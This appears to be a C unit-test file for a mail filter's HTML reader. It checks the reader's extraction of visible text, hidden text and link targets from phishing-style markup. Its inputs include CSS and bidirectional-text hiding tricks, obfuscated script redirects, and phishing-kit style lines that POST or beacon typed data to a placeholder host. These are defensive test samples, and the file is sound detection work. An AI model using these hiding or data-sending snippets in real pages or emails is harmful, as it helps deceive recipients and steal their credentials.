/* SPDX-License-Identifier: Apache-2.0 */
/* HTML: what a person sees of it, and where its links go. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/str.h"
#include "base/utf8.h"
#include "base/vec.h"
#include "mail/html.h"
#include "cpu.h"
#include "../scratch.h"

struct page_case {
	const char *html, *wanted;
};

static void
check_visible(const struct page_case *cases, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_of(cases[i].html), 1, 100);
		if (!str_is(page.visible, cases[i].wanted))
			fail_msg("%s\nis  \"%s\"\nnot \"%s\"", cases[i].html,
			    str_cstr(arena, page.visible), cases[i].wanted);
	}
}

static void
test_text_reads_as_in_a_browser(void **state)
{
	static const struct page_case cases[] = {
		{ "", "" },
		{ "plain", "plain" },
		{ " a \n\t b ", "a b" },
		{ "a<br>b<br/>c</br>d", "a\nb\nc\nd" },
		{ "a<br><br><br><br>b", "a\n\nb" },
		{ "<p>a<p>b</p>c", "a\nb\nc" },
		{ "<div>a</div><div>b</div>", "a\nb" },
		{ "<div><div><div>a</div></div></div>b", "a\nb" },
		{ "お支<b>払</b>い<span>情</span>報", "お支払い情報" },
		{ "ka<wbr>goya <!-- x --> ok<!-->", "kagoya ok" },
		{ "<table><tr><td>a<td>b<tr><td>c</table>d", "a b\nc\nd" },
		{ "<ul><li>a<li>b</ul>", "a\nb" },
		{ "<pre> a\n  b</pre>c", " a\n  b\nc" },
		{ "1 < 2 & 3 > 2 <> </> x", "1 < 2 & 3 > 2 <> x" },
		{ "<title>t</title><style>p{}</style><script>x</script>a",
		    "a" },
		{ "<textarea><b>a</b></textarea>", "<b>a</b>" },
		{ "<noscript>a</noscript>", "a" },
		{ "<![endif]--><![if !mso]>a<![endif]>", "a" },
		{ "<!--[if mso]>x<![endif]-->a", "a" },
		{ "<![CDATA[x]]>a", "a" },
		{ "<svg><![CDATA[x]]></svg>a", "xa" },
		{ "ご<ruby>利用<rp>(</rp><rt>りよう</rt><rp>)</rp></ruby>の",
		    "ご利用の\nりよう" },
		{ "<ruby>利<rp>(<rt>り<rp>)<rt>よう</ruby>の", "利の\nりよう" },
		{ "<ruby>利<rt>り</rt></ruby>を<ruby>用<rt>よう</rt></ruby>の",
		    "利を用の\nりよう" },
		/* and what is more than a reading stays where it stands */
		{ "a<rt>b</rt>c", "abc" },
		{ "<rt><p>a</p>b", "a\nb" },
		{ "<ruby>a<rt><p>b</p></rt></ruby>c", "a\nb\nc" },
		{ "<ruby>a<rt>b", "ab" },
		{ "<ruby>a<rt style='display:inline'>b</rt></ruby>", "ab" },
		{ "<ruby>a <rt>b</rt></ruby>c<img src=x alt=d>", "a c\nb\nd" },
		{ "<ruby>a<rt>0123456789012345678901234567890123456789"
		    "0123456789012345678901234</rt></ruby>b",
		    "a01234567890123456789012345678901234567890123456789"
		    "012345678901234b" },
		{ "<ruby>a<rt><b>b</ruby>c", "abc" },
		{ "<svg><style><a>x</a></style>y</svg>", "y" },
		{ "<?xml a?>b<!DOCTYPE html>c", "bc" },
		{ "<input type=submit value='ログイン'>", "ログイン" },
		{ "<input type=hidden value=x>a", "a" },
		{ "&copy; &#169;&#xa9 &amp;lt; &#x80;", "© ©© &lt; €" },
		{ "<xmp><b></xmp>a<plaintext></b>", "<b>\na\n</b>" },
		{ "<a href='>'>x</a>", "x" },
		{ "<img alt='x>y'>z", "z\nx>y" },
		{ "a<b x='", "a" },
		{ "a<!-- x", "a" },
	};

	(void)state;
	check_visible(cases, nitems(cases));
}

/* What clients show in place of pictures; a picture parts no word. */
static void
test_alternative_text_of_pictures_stands_below_the_text(void **state)
{
	static const struct page_case cases[] = {
		{ "<img alt='楽天カード'><p>a</p>", "a\n楽天カード" },
		{ "楽<img alt=x>天<img alt='y&amp;z'>", "楽天\nx\ny&z" },
		{ "<a href=x><img alt=y></a>a<img alt=z>", "ya\nz" },
		{ "<a href=x><img alt=y>u</a>a", "ua\ny" },
		{ "<a href=x><img alt=Amazon>Amazon.co.jp</a>",
		    "Amazon.co.jp" },
		{ "<img alt=x width=1 height=1><img alt=x height='0'>a",
		    "a" },
		{ "<img alt=x style='display:none'>a", "a" },
		{ "<p hidden><img alt=x></p>a", "a" },
		{ "<table><td style='font-size:0'><img alt=x></table>a",
		    "a" },
		{ "<table><td style='font-size:0'><img alt=x "
		    "style='font-size:9px'></table>a", "a\nx" },
		{ "<style>.n{display:none}</style><img alt=x class=n>a", "a" },
		{ "<img alt><img alt=' '>a", "a" },
	};
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	check_visible(cases, nitems(cases));
	html_read(&page, &links, arena, STR("ab<img alt=x>"), 1, 100);
	assert_int_equal(page.written, 2);
}

/* As INKY and others saw it: the words of the lure back to front, and told to
 * run from right to left. */
static void
test_text_forced_to_the_left_is_turned_round(void **state)
{
	static const struct page_case cases[] = {
		{ "<bdo dir=rtl>ドーカ天楽</bdo>より", "楽天カードより" },
		{ "a <bdo dir=rtl>cb</bdo> d", "a bc d" },
		{ "a<bdo dir=rtl> c<b>b</b></bdo>", "a bc" },
		{ "<span style='unicode-bidi:bidi-override;direction:rtl'>ba"
		    "</span>", "ab" },
		{ "<style>.r{direction:rtl;unicode-bidi:isolate-override}"
		    "</style><p class=r>ba<br>dc</p>e", "ab\ncd\ne" },
		{ "<div dir=rtl><bdo>ba</bdo></div>", "ab" },
		{ "<bdo dir=rtl>dc<bdo dir=ltr>xy</bdo>ba</bdo>", "abxycd" },
		{ "<bdo dir=rtl>ba", "ab" },
		/* what is a text of its own runs as it would elsewhere */
		{ "<bdo dir=rtl><i dir=ltr>ab</i></bdo>", "ab" },
		{ "<bdo dir=rtl><i dir=auto>ab</i></bdo>", "ab" },
		{ "<bdo dir=rtl>dc<bdi>ab</bdi></bdo>", "abcd" },
		{ "<bdo dir=rtl><i style='display:inline-block'>ab</i>",
		    "ab" },
		{ "<bdo dir=rtl><i style='unicode-bidi:isolate'>ab</i></bdo>",
		    "ab" },
		{ "<bdo dir=rtl><i style='unicode-bidi:normal'>ba</i></bdo>",
		    "ab" },
		{ "<bdo dir=rtl><i style='direction:ltr'>ba</i></bdo>", "ab" },
		{ "<bdo dir=rtl>dc&#x2066;ab&#x2069;</bdo>",
		    "\u200b" "ab\u200b" "cd" },
		{ "<bdo dir=rtl>&#x202d;ab</bdo>", "ab\u200b" },
		{ "<bdo dir=rtl><bdi>&#x202e;ba</bdi></bdo>", "\u200b" "ab" },
		{ "<bdo dir=rtl>אבג דה</bdo>", "אבג דה" },
		{ "<bdo dir=rtl>ba אבג 12</bdo>", "21 אבג ab" },
		{ "<bdo dir=rtl>ba<bdi>אבג x</bdi></bdo>", "אבג xab" },
		{ "<bdo>ab</bdo><p dir=rtl>ab</p>", "ab\nab" },
		{ "<bdo dir=ltr>ab</bdo>", "ab" },
		{ "<bdo dir=rtl style='unicode-bidi:normal'>ab</bdo>", "ab" },
		{ "<p style='unicode-bidi:bidi-override;direction:x'>ab",
		    "ab" },
		{ "<div style='unicode-bidi:bidi-override;direction:rtl'>"
		    "ba<p>ab</p></div>", "ab\nab" },
		{ "<bdo dir=rtl>ba<i style='display:none'>x</i></bdo>",
		    "ab" },
	};

	(void)state;
	check_visible(cases, nitems(cases));
}

static void
test_text_that_no_eye_sees_is_kept_apart(void **state)
{
	static const struct page_case cases[] = {
		{ "<p style='display:none'>x</p>a", "a" },
		{ "<p style='DISPLAY : None !important'>x</p>a", "a" },
		{ "<p style='disp\\6c ay/**/:n\\6fne'>x</p>a", "a" },
		{ "<p style='a:url(;);display&#58;none'>x</p>a", "a" },
		{ "<p style='display:none;display:block'>a</p>", "a" },
		{ "<i style=visibility:hidden>x<i style=visibility:visible>"
		    "a</i></i>", "a" },
		{ "<table><td style='font-size:0'>x<div style='font-size:"
		    "12px'>a</div>x</table>", "a" },
		{ "<div style='font-size:0'>x<b style='font-size:1em'>x</b>"
		    "</div>a", "a" },
		{ "<div style='font:0/0 a'>x</div>a", "a" },
		{ "<div style='font:bold 12px/1 a'>a</div>", "a" },
		{ "<div style='opacity:0.0'>x</div>a", "a" },
		{ "<div style='opacity:0.9;font-size:0.8em'>a</div>", "a" },
		{ "<div style='max-height:0;overflow:hidden'>x</div>a", "a" },
		{ "<div style='max-height:0'>a</div>", "a" },
		{ "<div hidden>x</div>a", "a" },
		{ "<template>x</template><datalist>x</datalist>a", "a" },
		{ "<div style=display:none>x<p>x</div>a", "a" },
		{ "<div style=display:none>x</span>x</div>a", "a" },
		{ "<font style=display:none>x<div>x</font>a</div>", "a" },
		{ "<p><font style=display:none>x</p>x</font>a", "a" },
		{ "<p style=display:none>x<div>a</div>", "a" },
		{ "<table><td style=display:none>x</div>x<td>a</table>", "a" },
		{ "<style>.h,p.i{display:none}#j{font-size:0} em { "
		    "visibility : hidden }</style><b class='z h'>x</b>"
		    "<p class=i>x</p><b id=j>x</b><EM>x</EM>a<b class=i></b>",
		    "a" },
		{ "<style>/*{*/<!--.h{display:none}.h{display:block}--></style>"
		    "<b class=h>a</b>", "a" },
		{ "<style>.h{display:none}</style><b class=h style="
		    "'display:inline'>a</b>", "a" },
		{ "<style>@import 'x';@media print{.h{display:none}.i{x:y}}"
		    "td .h{display:none}.h:hover{display:none}</style>"
		    "<b class=h>a</b>", "a" },
		{ "カ<style>.h{font-size:0}</style><b class=h>x</b>ゴヤ",
		    "カゴヤ" },
	};
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	check_visible(cases, nitems(cases));
	html_read(&page, &links, arena, STR("<title> a  b </title>c"
	    "<p hidden>d<p>e<div style='display:none'>f</div>"), 0, 9);
	assert_string_equal(str_cstr(arena, page.title), "a b");
	assert_string_equal(str_cstr(arena, page.visible), "c\ne");
	assert_string_equal(str_cstr(arena, page.hidden), "d\nf");
}

static void
test_outlook_is_told_what_others_overlook(void **state)
{
	static const struct {
		const char *html, *visible, *hidden;
	} cases[] = {
		{ "<!--[if mso]>x<![endif]-->a", "a", "x" },
		{ "<!--[if gte mso 9]><p>a&amp;b<p>c<![endif]-->", "a&b\nc",
		    "" },
		{ "hi<!--[if mso]>your account is locked<![endif]-->",
		    "hi\nyour account is locked", "" },
		{ "a<!--[if mso]>b<!--[if mso]>c<![endif]-->d", "ad", "b" },
		{ "ab<!--[if mso]><table><td>c<td>d</table><![endif]-->",
		    "ab\nc d", "" },
		{ "abc<!--[if gte mso 9]><xml><o:OfficeDocumentSettings>"
		    "<o:PixelsPerInch>96</o:PixelsPerInch></xml><![endif]-->"
		    "<!--[if mso]><style>p{}</style><![endif]-->", "abc",
		    "" },
		{ "<!--[if !mso]><!-->a<!--<![endif]-->", "a", "" },
		{ "<!--[if !mso]>b<![endif]-->a", "a", "" },
		{ "<!--[if mso]-->a<!--[endif]-->", "a", "" },
		{ "<!--[if mso", "", "" }, { "<!--[if mso]>", "", "" },
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		url_list links = { 0 };
		struct html_page page;

		html_read(&page, &links, arena, str_of(cases[i].html), 0, 9);
		if (!str_is(page.visible, cases[i].visible) ||
		    !str_is(page.hidden, cases[i].hidden))
			fail_msg("%s\ngave \"%" STR_FMT "\" and \"%" STR_FMT
			    "\"", cases[i].html, STR_ARG(page.visible),
			    STR_ARG(page.hidden));
	}
}

struct link_case {
	const char *html, *url, *text;
	enum url_source source;
};

static void
test_links_come_with_what_the_reader_sees(void **state)
{
	static const struct link_case cases[] = {
		{ "<a href='http://a.jp/?x=1&amp;y=2'>テ<b>スト</b> x</a>y",
		    "http://a.jp/?x=1&y=2", "テスト x", URL_A },
		{ "<A HREF=http://a.jp/x>t</A>", "http://a.jp/x", "t",
		    URL_A },
		{ "<a\nhref\n=\n\" http://a.jp/x\n\">t</a>",
		    "http://a.jp/x", "t", URL_A },
		{ "<a href='http://a.jp/'>t", "http://a.jp/", "t", URL_A },
		{ "<a href='http://a.jp/'><p>t</p><p>u</p></a>v",
		    "http://a.jp/", "t u", URL_A },
		{ "<p><a href='http://a.jp/'>t</p>u", "http://a.jp/", "t u",
		    URL_A },
		{ "<table><td><a href='http://a.jp/'>t<td>u", "http://a.jp/",
		    "t", URL_A },
		{ "<a href='http://a.jp/'><img alt='ロゴ'></a>",
		    "http://a.jp/", "ロゴ", URL_A },
		{ "<a href='http://a.jp/'><img alt='x'>t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<a href='http://a.jp/' title='ログ&amp;'><img src=b></a>",
		    "http://a.jp/", "ログ&", URL_A },
		{ "<bdo dir=rtl><a href='http://a.jp/'>ba</a></bdo>",
		    "http://a.jp/", "ab", URL_A },
		{ "<bdo dir=rtl>い<a href='http://a.jp/'>あ</bdo>う</a>",
		    "http://a.jp/", "あいう", URL_A },
		{ "<a href='http://a.jp/'><bdo dir=rtl>ba</bdo></a>",
		    "http://a.jp/", "ab", URL_A },
		{ "<a href='http://a.jp/' title=x><img src=b alt=y></a>",
		    "http://a.jp/", "y", URL_A },
		{ "<a href='http://a.jp/'>https://b.jp/</a>", "http://a.jp/",
		    "https://b.jp/", URL_A },
		{ "<a href='http://a.jp/'><i style='display:none'>x</i>t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<a href='h&#116;tp://a.jp'>t</a>", "http://a.jp/", "t",
		    URL_A },
		{ "<a href='www.a.jp'>t</a>", "http://www.a.jp/", "t",
		    URL_A },
		{ "<area href='http://a.jp/'>", "http://a.jp/", "",
		    URL_AREA },
		{ "<form action='http://a.jp/'>", "http://a.jp/", "",
		    URL_FORM },
		{ "<button formaction='http://a.jp/'>", "http://a.jp/", "",
		    URL_FORM },
		{ "<meta http-equiv=Refresh content=\"0; URL='http://a.jp/'"
		    "\">", "http://a.jp/", "", URL_REFRESH },
		{ "<meta http-equiv=refresh content='3;http://a.jp/'>",
		    "http://a.jp/", "", URL_REFRESH },
		{ "<iframe src='http://a.jp/'>", "http://a.jp/", "",
		    URL_FRAME },
		{ "<img src='http://a.jp/'>", "http://a.jp/", "",
		    URL_IMAGE },
		{ "<td background='http://a.jp/'>", "http://a.jp/", "",
		    URL_BACKGROUND },
		{ "<p style=\"background:url('http://a.jp/')\">",
		    "http://a.jp/", "", URL_BACKGROUND },
		{ "<style>p{background:url(http://a.jp/)}</style>",
		    "http://a.jp/", "", URL_BACKGROUND },
		{ "<script src='http://a.jp/'></script>", "http://a.jp/", "",
		    URL_CODE },
		{ "<link rel=stylesheet href=http://a.jp/>", "http://a.jp/",
		    "", URL_LINK },
		{ "<svg><image xlink:href='http://a.jp/'/></svg>",
		    "http://a.jp/", "", URL_SVG },
		{ "<svg><use href='http://a.jp/#x'/></svg>",
		    "http://a.jp/#x", "", URL_SVG },
		{ "<img srcset=', http://a.jp/ 2x'>", "http://a.jp/", "",
		    URL_IMAGE },
		{ "<meta http-equiv=refresh content='0;;URL = http://a.jp/'>",
		    "http://a.jp/", "", URL_REFRESH },
		{ "<meta http-equiv=' refresh' "
		    "content='.5, uRl=\"http://a.jp/'>",
		    "http://a.jp/", "", URL_REFRESH },
		{ "<meta http-equiv=refresh content='0 url=http://a.jp/'>",
		    "http://a.jp/", "", URL_REFRESH },
		{ "<!--[if mso]><v:roundrect href='http://a.jp/'>t"
		    "</v:roundrect><![endif]-->", "http://a.jp/", "t", URL_A },
		{ "<!--[if mso]><p>x<a href='http://a.jp/'>&#116;<b>u</b> v"
		    "<![endif]-->w</a>", "http://a.jp/", "tu v", URL_A },
		{ "<svg><script>location='http://a.jp/'</script></svg>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<svg><script>location=&quot;http://a.jp/&#34;</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<svg><script><![CDATA[location='http://a.jp/']]></script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<a href='ms-word:ofe|u|https://a.jp/x.doc'>t</a>",
		    "https://a.jp/x.doc", "t", URL_A },
		{ "<a href='view-source:http://a.jp/'>t</a>", "http://a.jp/",
		    "t", URL_A },
		{ "<a href='ht\ntp://a.jp/?http://b.jp/'>t</a>",
		    "http://a.jp/?http://b.jp/", "t", URL_A },
		{ "<!--[if gte mso 9]><v:fill src='http://a.jp/'/><![endif]"
		    "-->", "http://a.jp/", "", URL_BACKGROUND },
		{ "<script>location='http://a.jp/'</script>", "http://a.jp/",
		    "", URL_SCRIPT },
		{ "<script>window.location.href = \"http:\\/\\/a.jp/\";"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>top.location.replace('ht'+'tp://' + \"a.jp/\")"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>window['location'][\"href\"]=`http://a.jp/`"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>window.open('\\x68ttp://\\u0061.jp/','_self')"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>document.location=atob('aHR0cDovL2EuanAv')"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>location.assign(unescape(atob('aHR0cCUzQS8vYS5qcC8"
		    "='))+x)</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<button onclick=\"location.href='http://a.jp/'\">",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<a href=\"java\nscript:location='http://a.jp/'\">t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<iframe srcdoc=\"<a href='http://a.jp/'>t</a>\">",
		    "http://a.jp/", "t", URL_A },
		{ "<iframe src='data:text/html,<a href=http://a.jp/>t</a>'>",
		    "http://a.jp/", "t", URL_A },
		{ "<a href='data:text/html;base64,PGEgaHJlZj1odHRwOi8vYS5qcC8"
		    "+dDwvYT4='>x</a>", "http://a.jp/", "t", URL_A },
		{ "<script>document.write(unescape('%3Cform action=http://a.jp"
		    "/%3E'))</script>", "http://a.jp/", "", URL_FORM },
		{ "<svg><a xlink:href='http://a.jp/'>t</a></svg>",
		    "http://a.jp/", "t", URL_A },
		{ "<svg><set attributeName=href to='http://a.jp/'></svg>",
		    "http://a.jp/", "", URL_A },
		{ "<svg><animate values='0;http://a.jp/'></svg>",
		    "http://a.jp/", "", URL_A },
		{ "<math href='http://a.jp/'>t</math>", "http://a.jp/", "t",
		    URL_A },
		{ "<image src='http://a.jp/'>", "http://a.jp/", "",
		    URL_IMAGE },
		{ "<a href='a.co.jp/x'>t</a>", "http://a.co.jp/x", "t",
		    URL_A },
		{ "<a href='webcal://a.co.jp/'>t</a>", "http://a.co.jp/", "t",
		    URL_A },
		{ "<a href='file:////a.co.jp/h'>t</a>", "http://a.co.jp/h",
		    "t", URL_A },
		{ "<a href='search-ms:crumb=location:\\\\a.co.jp\\h'>t</a>",
		    "http://a.co.jp/h", "t", URL_A },
		{ "<a href='ms-appinstaller:?source=http%3A%2F%2Fa.jp%2Fh'>t"
		    "</a>", "http://a.jp/h", "t", URL_A },
		{ "<a href='intent://a.jp/#Intent;scheme=http;end'>t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<a href='intent://x#Intent;scheme=z;"
		    "S.browser_fallback_url=http%3A%2F%2Fa.jp%2F;end'>t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<script type=application/ld+json>{\"potentialAction\":{"
		    "\"url\" : \"http://a.jp/\"}}</script>", "http://a.jp/",
		    "", URL_SCRIPT },
		{ "<script>var u='';u=\"http://a.\"+'jp/';location=u</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>window.navigate('http://a.jp/')</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>document.forms[0].action='http://a.jp/'</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		/* where kits send what is typed: once no link at all */
		{ "<script>fetch('http://a.jp/',{method:'POST'})</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>$.ajax({type:'POST',url : \"http://a.jp/\"})"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<script>$.getJSON('http://a.jp/', d)</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>navigator.sendBeacon('http://a.jp/', d)</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>new Image().src='http://a.jp/?'+u</script>",
		    "http://a.jp/?", "", URL_SCRIPT },
		{ "<script>b.innerHTML = '<a href=\"http://a.jp/\">go</a>'"
		    "</script>", "http://a.jp/", "go", URL_A },
		{ "<script>$.post( 'http://a.jp/', d)</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>x.open( 'POST' , 'http://a.jp/', true)</script>",
		    "http://a.jp/", "", URL_SCRIPT },
		{ "<script>var u='http://a.jp/';f.setAttribute(\"action\",u)"
		    "</script>", "http://a.jp/", "", URL_SCRIPT },
		{ "<b x='\"' y=z><a/href='http://a.jp/'>t</a>",
		    "http://a.jp/", "t", URL_A },
		{ "<a href='http://a.jp/' href='http://b.jp/'>t</a>",
		    "http://a.jp/", "t", URL_A },
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_of(cases[i].html), 7, 100);
		if (links.n != 1)
			fail_msg("%s: %zu links", cases[i].html, links.n);
		assert_string_equal(str_cstr(arena, links.at[0].normalized),
		    cases[i].url);
		assert_string_equal(str_cstr(arena, links.at[0].text),
		    cases[i].text);
		assert_int_equal(links.at[0].source, cases[i].source);
		assert_int_equal(links.at[0].part, 7);
		assert_int_equal(links.at[0].outer, URL_NONE);
	}
}

/* Telephone numbers and the like, and names without a known end. */
static void
test_what_other_programs_are_told_is_no_host(void **state)
{
	static const char *const told[] = {
		"x-apple-data-detectors://0", "sms://5551234", "callto://12",
		"skype://123456", "x-msg://12/", "applewebdata://1234",
		"notes://1", "x-app://1.2", "x-app://localhost/",
		"facetime://a@host", "message://%3cx@y.invalid%3e",
	};
	static const char *const hosts[] = {
		"x-app://192.0.2.1/", "x-app://[2001:db8::1]/",
		"sms://a.jp/", "x-app://u@a.co.jp:8080/x",
	};

	(void)state;
	for (size_t i = 0; i < nitems(told) + nitems(hosts); i++) {
		bool is_host = i >= nitems(told);
		const char *href = is_host ? hosts[i - nitems(told)] : told[i];
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_cat(arena,
		    STR("<a href='"), str_of(href), STR("'>x</a>")), 1, 100);
		if ((links.n != 0 && links.at[0].host.n != 0) != is_host)
			fail_msg("%s: %zu links", href, links.n);
	}
}

/* The three put together hide this. */
static void
check_hidden(const char *head, const char *middle, const char *tail,
    const char *wanted)
{
	struct str html = str_cat(arena, str_of(head), str_of(middle),
	    str_of(tail));
	struct html_page page;
	url_list links = { 0 };

	html_read(&page, &links, arena, html, 1, 100);
	if (!str_is(page.hidden, wanted))
		fail_msg("%s: hidden \"%s\" not \"%s\"", middle,
		    str_cstr(arena, page.hidden), wanted);
}
/* Ways to keep text off the page that senders use, each beside one that looks
 * like it and hides nothing. */
static void
test_text_moved_or_cut_off_the_page_is_hidden(void **state)
{
	static const char *const hides[] = {
		"position:absolute;left:-9999px",
		"left:-9999px;position:fixed",
		"position:absolute!important;top:-1000px",
		"position:absolute;left:-100em",
		"position:absolute;left:-100vw",
		"position:relative;right:-5000px",
		"text-indent:-9999px",
		"text-indent:-9999em;overflow:hidden",
		"margin-left:-9999px",
		"margin-top:-2000px",
		"position:absolute;clip:rect(0,0,0,0)",
		"position:absolute;clip:rect(1px 1px 1px 1px)",
		"position:absolute;width:1px;height:1px;overflow:hidden",
		"clip-path:inset(50%)", "clip-path: inset(100% 0 0 0)",
		"clip-path:circle(0)", "clip-path:polygon(0 0, 0 0, 0 0)",
		"transform:scale(0)", "transform:rotate(5deg) scale(0, 0)",
		"transform:scaleX(0)", "transform:translateX(-9999px)",
		"transform:translate(0,-5000px)",
		"opacity:0", "opacity:0%", "opacity:.01",
		"filter:alpha(opacity=0)", "filter:opacity(0)",
		"font-size:0", "font-size:0px", "font-size:1px",
		"font-size:0.1pt", "font-size:1%", "font-size:.01em",
		"height:0;overflow:hidden", "overflow:hidden;height:1px",
		"max-height:0;overflow-y:hidden", "width:0;overflow:clip",
		"max-height:0px;max-width:0px;opacity:0;overflow:hidden",
		"display:none;mso-hide:all", "visibility:hidden",
		"visibility:collapse", "color:rgba(0,0,0,0)",
		"color:rgba(9,9,9,.01)", "color:rgb(9 9 9 / 0%)",
		"color:#0000", "color:#00000003", "color:transparent",
		"color:#fff", "color:#fefefe", "color:hsl(0,0%,100%)",
		"color:hsla(120,50%,50%,0)", "background:#123456;color:#123457",
	};
	static const char *const shows[] = {
		"left:-9999px", "position:static;left:-9999px",
		"position:absolute;left:-10px", "position:relative;top:-2em",
		"text-indent:-20px", "text-indent:2em", "margin-left:-15px",
		"margin:0 -9999px;padding:0 9999px",
		"margin-left:-9999px;padding-left:9999px",
		"clip:rect(0,0,0,0)", "clip:auto;position:absolute",
		"position:absolute;clip:rect(0,200px,50px,0)",
		"clip-path:inset(10%)", "clip-path:circle(50%)",
		"clip-path:none", "transform:scale(0.9)",
		"transform:scale(1,1.2)", "transform:translate(-50%,-50%)",
		"transform:translateX(-100%)", "transform:none",
		"opacity:1", "opacity:.5", "opacity:90%",
		"filter:alpha(opacity=80)", "filter:opacity(50%)",
		"filter:grayscale(0)", "font-size:10px", "font-size:80%",
		"font-size:.8em", "height:0", "max-height:0",
		"height:100px;overflow:hidden", "height:0;overflow:visible",
		"mso-hide:all", "visibility:visible", "color:rgba(0,0,0,.87)",
		"color:rgb(9 9 9 / 80%)", "color:#000f", "color:hsl(0,0%,20%)",
		"color:hsl(210,50%,40%)", "zoom:1;background:url(x;color:#fff",
	};

	(void)state;
	for (size_t i = 0; i < nitems(hides); i++)
		check_hidden("<p style=\"", hides[i], "\">x</p>a", "x");
	for (size_t i = 0; i < nitems(shows); i++)
		check_hidden("<p style=\"", shows[i], "\">x</p>a", "");
	for (size_t i = 0; i < nitems(hides); i++)
		check_hidden("<style>.q{", hides[i],
		    "}</style><p class=q>x</p>a", "x");
}

static void
test_attributes_and_details_hide_as_in_a_browser(void **state)
{
	static const struct {
		const char *html, *hidden;
	} cases[] = {
		{ "<p hidden>x</p>a", "x" },
		{ "<p hidden=until-found>x</p>a", "x" },
		{ "<p aria-hidden=true>a</p>", "" },
		{ "<details>x<p>y</p></details>a", "x\ny" },
		{ "<details>x<summary>a<b>b</b></summary>y</details>c",
		    "x\ny" },
		{ "<details open>a</details>", "" },
		{ "<details OPEN=''><summary>a</summary>b</details>", "" },
		{ "<details><details open>x<summary>y</summary></details>"
		    "<summary>a</summary></details>", "x\ny" },
		{ "<div hidden><details>x<summary>y</summary></details></div>",
		    "x\ny" },
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++)
		check_hidden("", cases[i].html, "", cases[i].hidden);
}

/* Sheets were read as far as the text before them, selectors with a blank
 * and "!important" not at all: a lure was hidden from us and from nobody else,
 * and the other way round. */
static void
test_style_sheets_are_laid_over_each_other_as_in_a_browser(void **state)
{
	static const struct page_case cases[] = {
		{ "<style>.h{display:none!important}</style>"
		    "<b class=h style=display:inline>x</b>a", "a" },
		{ "<style>.h{display:none!important}.h{display:block}</style>"
		    "<p class=h>x<p>a", "a" },
		{ "<p style='display:none ! important;display:block'>x<p>a",
		    "a" },
		{ "<style>div .h{display:none}div>b{font-size:0}</style>"
		    "<div><p class=h>x</p><b>x</b></div><b class=h>a</b>",
		    "a" },
		{ "<style>.h{display:none}td > p .h{display:block}</style>"
		    "<b class=h>x</b><table><td><p><i><b class=h>a", "a" },
		{ "<style>div>p>.h{display:none}</style><div><p><p>"
		    "<i><b class=h>a</b></i><b class=h>x</b>", "a" },
		{ "<style>.h.i{display:none}</style><b class='i h'>x</b>"
		    "<b class=h>a", "a" },
		{ "<style>#i{display:block}p#i{font-size:9px}.h.h{display:"
		    "none;font-size:0}</style><p class=h id=i>a", "a" },
		{ "<style>*{font-size:0}b{font-size:9px}</style>x<p>x<b>a",
		    "a" },
		{ "<p class=h>a</p><style>.g{display:none}</style>"
		    "<p class=g>x<style>.h{color:red}</style>", "a" },
		{ "<p class=h>x</p>a<style>.h{display:none}</style>", "a" },
		{ "<p class=h>x</p><style>.h{display:none}</style><p class=g>"
		    "y</p><style>.g{display:none}</style><p class='g i'>a"
		    "<style>.i{display:block}</style><p class=g>z", "a" },
		{ "<p class=h>a<style>.h{display:none}</style><p>b<style>"
		    ".h{display:block}</style><p>c<style>.g{display:none}"
		    "</style><p class=g>x", "a\nb\nc" },
		{ "<style>.h{display:none}</style><p class=h>a</p>"
		    "<style>.h{display:block}</style>", "a" },
		{ "<style>.h{position:absolute;left:-9999px}</style>"
		    "<p class=h style='width:9px'>x<p class=h style="
		    "'position:static'>a", "a" },
	};

	(void)state;
	check_visible(cases, sizeof(cases) / sizeof(cases[0]));
}

static void
test_text_in_the_colour_of_its_ground_is_hidden(void **state)
{
	static const struct {
		const char *html, *hidden;
	} cases[] = {
		{ "a<p style='color:#fff'>b", "b" },
		{ "a<font color=white>b</font>", "b" },
		{ "a<font color=transparent>b</font>", "" },
		{ "a<font color='rgb(255,255,255)'>b</font>", "" },
		{ "a<table bgcolor=none><td><font color=white>b", "" },
		{ "a<table bgcolor=azure><td><font color=#efffff>b", "b" },
		{ "a<p style='color:RGB(254, 255, 255)'>b", "b" },
		{ "a<p style='color:rgba(0,0,0,0)'>b", "b" },
		{ "a<table bgcolor='#000080'><td><span style='color:navy'>b",
		    "b" },
		{ "a<p style='background:#123456;color:#123457'>b", "b" },
		{ "<style>.x{color:#fefefe}</style>a<p class=x>b", "b" },
		{ "<style>@media screen{.x{display:none}.y{color:red}}</style>"
		    "a<p class=x>b", "b" },
